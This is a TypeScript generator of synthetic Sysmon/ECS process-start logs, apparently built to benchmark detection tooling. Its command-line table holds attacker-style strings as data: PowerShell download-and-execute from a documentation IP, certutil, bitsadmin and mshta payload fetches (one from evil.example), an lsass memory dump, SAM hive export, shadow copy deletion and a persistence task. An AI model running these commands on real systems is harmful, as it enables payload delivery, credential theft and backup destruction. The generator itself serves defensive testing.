/**
 * Seeded synthetic process events, Sysmon-shaped (EventID 1 with Sigma taxonomy field names)
 * or ECS-shaped (Winlogbeat/Elastic Agent process start), deterministic from the seed.
 *
 *   npx tsx scripts/gen-events.ts --count 100000 --seed 42 --shape sysmon > events.ndjson
 */

export type Shape = 'sysmon' | 'ecs';

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SYS = 'C:\\Windows\\System32\\';

/**
 * Bumped whenever the events change, so a benchmark never reuses a file from an older generator
 * (its cache name carries this).
 */
export const GENERATOR_VERSION = 2;

/** A seeded source of the parts that vary from one process start to the next in real logs. */
interface Vary {
  pick<T>(a: T[]): T;
  int(lo: number, hi: number): number;
  hex(n: number): string;
  user: string;
  home: string;
}

// Command lines as they vary in real Sysmon data: most carry a temp name, a document, a pid, an
// address, a user's profile path or a process-specific id, so few repeat exactly (the bench reports
// how many distinct values each field has); a minority (service hosts, console hosts) repeat.
type Args = (v: Vary) => string;
const BINARIES: Array<[string, Args[]]> = [
  [SYS + 'svchost.exe', [() => '-k netsvcs -p -s Schedule', () => '-k LocalService -p', () => '-k DcomLaunch -p', (v) => `-k ${v.pick(['netsvcs', 'LocalServiceNetworkRestricted', 'NetworkService', 'UnistackSvcGroup'])} -p -s ${v.pick(['BITS', 'Dnscache', 'gpsvc', 'Winmgmt', 'wuauserv', 'CDPUserSvc_' + v.hex(5).toLowerCase()])}`]],
  [SYS + 'cmd.exe', [(v) => `/c dir ${v.home}\\${v.pick(['Documents', 'Downloads', 'Desktop'])}`, (v) => `/c echo ${v.hex(6)} > ${v.home}\\AppData\\Local\\Temp\\${v.hex(8)}.txt`, () => '/c whoami /all', (v) => `/c net user ${v.pick(['administrator', 'guest', 'svc_sql', 'helpdesk' + v.int(1, 99)])}`, (v) => `/c ping -n ${v.int(1, 5)} 10.${v.int(0, 255)}.${v.int(0, 255)}.${v.int(1, 254)}`, (v) => `/c "${v.home}\\AppData\\Local\\Temp\\${v.hex(8)}.bat"`]],
  [SYS + 'WindowsPowerShell\\v1.0\\powershell.exe', [() => '-NoProfile -Command Get-Process', (v) => `-ExecutionPolicy Bypass -File C:\\scripts\\${v.pick(['deploy', 'backup', 'inventory', 'cleanup'])}-${v.int(1, 400)}.ps1`, (v) => `-enc ${Buffer.from(`IEX ${v.hex(12)}`, 'utf16le').toString('base64')}`, (v) => `-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.${v.int(1, 254)}/${v.hex(4).toLowerCase()}')"`, (v) => `-NoLogo -NonInteractive -Command "Get-ChildItem ${v.home} -Recurse | Measure-Object"`]],
  [SYS + 'wbem\\WMIC.exe', [(v) => `/node:10.${v.int(0, 255)}.${v.int(0, 255)}.${v.int(1, 254)} process call create "cmd.exe /c calc"`, () => 'os get caption', () => 'shadowcopy delete /nointeractive', (v) => `process where processid=${v.int(1000, 60000)} get commandline`]],
  [SYS + 'rundll32.exe', [() => 'shell32.dll,Control_RunDLL', (v) => `${v.home}\\AppData\\Local\\Temp\\${v.hex(8)}.dll,DllRegisterServer`, () => 'javascript:"\\..\\mshtml,RunHTMLApplication"', (v) => `C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess ${v.int(1, 4351)}`]],
  [SYS + 'reg.exe', [() => 'query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', () => 'add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /ve /d cmd.exe /f', (v) => `save HKLM\\SAM C:\\temp\\${v.hex(6).toLowerCase()}.hive`, (v) => `query "HKU\\S-1-5-21-${v.int(1e8, 4e9)}-${v.int(1e8, 4e9)}-${v.int(1000, 9999)}\\Software" /s`]],
  [SYS + 'schtasks.exe', [(v) => `/create /tn Updater${v.hex(4)} /tr C:\\ProgramData\\${v.hex(6).toLowerCase()}.exe /sc minute`, () => '/query /fo LIST', (v) => `/run /tn "\\Microsoft\\Windows\\${v.pick(['Defrag', 'DiskCleanup', 'WindowsUpdate'])}\\${v.pick(['ScheduledDefrag', 'SilentCleanup', 'Scheduled Start'])}"`]],
  [SYS + 'certutil.exe', [(v) => `-urlcache -split -f http://203.0.113.${v.int(1, 254)}/${v.hex(5).toLowerCase()}.exe ${v.hex(5).toLowerCase()}.exe`, (v) => `-decode ${v.hex(6).toLowerCase()}.b64 out.exe`, (v) => `-hashfile C:\\isos\\${v.hex(8).toLowerCase()}.iso SHA256`]],
  [SYS + 'net.exe', [() => 'user', () => 'group "Domain Admins" /domain', (v) => `use \\\\${v.pick(['fileserver', 'nas01', 'srv-files'])}\\${v.pick(['share', 'public', 'it$', 'finance'])}`, (v) => `user ${v.user.split('\\')[1]} /domain`]],
  [SYS + 'mshta.exe', [(v) => `http://evil.example/${v.hex(6).toLowerCase()}.hta`, () => 'vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc""")']],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', [(v) => `--type=renderer --field-trial-handle=${v.int(1000, 9999)},i,${v.int(1e15, 9e15)},${v.int(1e15, 9e15)},262144 --lang=en-US --renderer-client-id=${v.int(4, 400)} --mojo-platform-channel-handle=${v.int(1000, 9999)} /prefetch:1`, () => '--no-startup-window', (v) => `--type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle=${v.int(1000, 9999)} --mojo-platform-channel-handle=${v.int(1000, 9999)} /prefetch:8`]],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', [(v) => `/n "${v.home}\\Documents\\${v.pick(['report', 'invoice', 'minutes', 'plan', 'cv'])}_${v.int(1, 9999)}.docx"`, (v) => `/n "\\\\fileserver\\share\\${v.hex(6).toLowerCase()}.docm" /o ""`]],
  ['%TEMP%\\setup.exe', [() => '/S', () => '--silent --install', (v) => `/quiet /norestart /log ${v.home}\\AppData\\Local\\Temp\\${v.hex(8)}.log`]],
  ['C:\\Windows\\explorer.exe', [() => '', () => '/factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding', (v) => `/select,"${v.home}\\Downloads\\${v.hex(8).toLowerCase()}.zip"`]],
  [SYS + 'conhost.exe', [() => '0xffffffff -ForceV1', () => '0x4']],
  [SYS + 'msiexec.exe', [(v) => `/i C:\\temp\\agent-${v.int(1, 40)}.${v.int(0, 9)}.msi /qn`, (v) => `/q /i http://198.51.100.${v.int(1, 254)}/${v.hex(4).toLowerCase()}.msi`, (v) => `/V ${v.hex(8)}`]],
  [SYS + 'bitsadmin.exe', [(v) => `/transfer job${v.int(1, 999)} /download /priority high http://203.0.113.${v.int(1, 254)}/a.exe C:\\temp\\${v.hex(6).toLowerCase()}.exe`]],
  ['C:\\Tools\\procdump64.exe', [(v) => `-ma lsass.exe C:\\temp\\${v.hex(6).toLowerCase()}.dmp`, (v) => `-accepteula -ma ${v.int(1000, 60000)}`]],
];
/** Parent processes with the command lines they are started with. */
const PARENTS: Array<[string, Args]> = [
  [SYS + 'services.exe', () => SYS + 'services.exe'],
  ['C:\\Windows\\explorer.exe', () => 'C:\\Windows\\Explorer.EXE'],
  [SYS + 'svchost.exe', (v) => `${SYS}svchost.exe -k ${v.pick(['netsvcs -p -s Schedule', 'DcomLaunch -p', 'LocalService -p -s EventSystem', 'UnistackSvcGroup -s CDPUserSvc_' + v.hex(5).toLowerCase()])}`],
  [SYS + 'cmd.exe', (v) => `"${SYS}cmd.exe" /c "${v.home}\\AppData\\Local\\Temp\\${v.hex(8)}.bat"`],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', (v) => `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${v.home}\\Documents\\${v.pick(['report', 'invoice', 'plan'])}_${v.int(1, 9999)}.docx"`],
  [SYS + 'WindowsPowerShell\\v1.0\\powershell.exe', (v) => `"${SYS}WindowsPowerShell\\v1.0\\powershell.exe" -ExecutionPolicy Bypass -File C:\\scripts\\${v.pick(['deploy', 'backup', 'inventory'])}-${v.int(1, 400)}.ps1`],
];
const DOMAINS = ['CORP', 'CORP', 'CORP', 'LAB'];
const FIRST = ['bob', 'alice', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar', 'peggy', 'trent', 'victor', 'walter'];
const SERVICE_USERS = ['NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\LOCAL SERVICE', 'NT AUTHORITY\\NETWORK SERVICE', 'CORP\\svc_backup', 'CORP\\svc_sql'];
const COMPANIES = ['Microsoft Corporation', 'Google LLC', '', 'Sysinternals - www.sysinternals.com'];
const INTEGRITY = ['Medium', 'High', 'System', 'Low'];

function hexOf(r: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += Math.floor(r() * 16).toString(16).toUpperCase();
  return s;
}

function guidOf(r: () => number): string {
  return `{${hexOf(r, 8)}-${hexOf(r, 4)}-${hexOf(r, 4)}-${hexOf(r, 4)}-${hexOf(r, 12)}}`;
}

function basename(p: string): string {
  return p.slice(p.lastIndexOf('\\') + 1);
}

export function* generateEvents(count: number, seed: number, shape: Shape): Generator<Record<string, unknown>> {
  const r = mulberry32(seed);
  const pick = <T>(a: T[]): T => a[Math.floor(r() * a.length)];
  const int = (lo: number, hi: number): number => lo + Math.floor(r() * (hi - lo + 1));
  const hex = (n: number): string => hexOf(r, n);
  const guid = (): string => guidOf(r);
  // a few hundred people on a few hundred machines, and the service accounts
  const people = Array.from({ length: 300 }, (_, i) => `${pick(DOMAINS)}\\${pick(FIRST)}${i < 16 ? '' : i}`);
  const hosts = Array.from({ length: 400 }, (_, i) => (i < 20 ? `srv-${pick(['db', 'app', 'web', 'files'])}${String(i).padStart(2, '0')}.corp.example` : `ws-${String(i).padStart(4, '0')}.corp.example`));
  let t = Date.UTC(2026, 10, 1, 8, 0, 0);
  for (let i = 0; i < count; i++) {
    t += Math.floor(r() * 2000);
    const user = r() < 0.3 ? pick(SERVICE_USERS) : pick(people);
    const account = user.split('\\')[1];
    const v: Vary = { pick, int, hex, user, home: `C:\\Users\\${account.replace(/ /g, '')}` };
    const [imageAt, argsOf] = pick(BINARIES);
    const image = imageAt.replace('%TEMP%', `${v.home}\\AppData\\Local\\Temp\\${hex(6).toLowerCase()}`);
    const args = pick(argsOf)(v);
    const [parent, parentArgs] = pick(PARENTS);
    const parentCommandLine = parentArgs(v);
    const commandLine = args ? `"${image}" ${args}` : image;
    const pid = 1000 + Math.floor(r() * 60000);
    const ppid = 400 + Math.floor(r() * 60000);
    const host = pick(hosts);
    const hashes = `SHA1=${hex(40)},MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`;
    const ts = new Date(t).toISOString();
    const name = basename(image);
    const pguid = guid();
    if (shape === 'sysmon') {
      yield {
        '@timestamp': ts,
        EventID: 1,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Provider_Name: 'Microsoft-Windows-Sysmon',
        Computer: host,
        RuleName: '-',
        UtcTime: ts,
        ProcessGuid: guid(),
        ProcessId: pid,
        Image: image,
        FileVersion: `10.0.${19041 + Math.floor(r() * 3000)}.1`,
        Description: name.replace(/\.exe$/i, ''),
        Product: 'Microsoft® Windows® Operating System',
        Company: pick(COMPANIES),
        OriginalFileName: name.toUpperCase() === name ? name : name.toLowerCase(),
        CommandLine: commandLine,
        CurrentDirectory: 'C:\\Windows\\system32\\',
        User: user,
        LogonGuid: guid(),
        LogonId: `0x${hex(6)}`,
        TerminalSessionId: Math.floor(r() * 3),
        IntegrityLevel: pick(INTEGRITY),
        Hashes: hashes,
        ParentProcessGuid: pguid,
        ParentProcessId: ppid,
        ParentImage: parent,
        ParentCommandLine: parentCommandLine,
        ParentUser: r() < 0.5 ? user : pick(SERVICE_USERS),
      };
    } else {
      const [domain, uname] = user.split('\\');
      yield {
        '@timestamp': ts,
        event: { code: '1', category: ['process'], type: ['start'], kind: 'event', provider: 'Microsoft-Windows-Sysmon', module: 'sysmon' },
        winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', event_id: '1', computer_name: host, event_data: { IntegrityLevel: pick(INTEGRITY), Company: pick(COMPANIES) } },
        host: { name: host, hostname: host.split('.')[0], os: { family: 'windows' } },
        process: {
          pid,
          entity_id: guid(),
          executable: image,
          name,
          command_line: commandLine,
          args: commandLine.split(' '),
          working_directory: 'C:\\Windows\\system32\\',
          pe: { original_file_name: name, company: pick(COMPANIES), description: name.replace(/\.exe$/i, '') },
          hash: { sha1: hex(40).toLowerCase(), md5: hex(32).toLowerCase(), sha256: hex(64).toLowerCase() },
          parent: { pid: ppid, entity_id: pguid, executable: parent, name: basename(parent), command_line: parentCommandLine },
        },
        user: { domain, name: uname },
      };
    }
  }
}

if (require.main === module) {
  const argv = process.argv.slice(2);
  const opt = (name: string, dflt: string): string => {
    const i = argv.indexOf(`--${name}`);
    return i >= 0 && argv[i + 1] !== undefined ? argv[i + 1] : dflt;
  };
  const count = Number(opt('count', '100000'));
  const seed = Number(opt('seed', '1'));
  const shape = opt('shape', 'sysmon') as Shape;
  if (shape !== 'sysmon' && shape !== 'ecs') {
    process.stderr.write(`--shape must be sysmon or ecs, got '${shape}'\n`);
    process.exit(2);
  }
  let buf = '';
  for (const e of generateEvents(count, seed, shape)) {
    buf += JSON.stringify(e) + '\n';
    if (buf.length > 1 << 20) {
      process.stdout.write(buf);
      buf = '';
    }
  }
  process.stdout.write(buf);
}
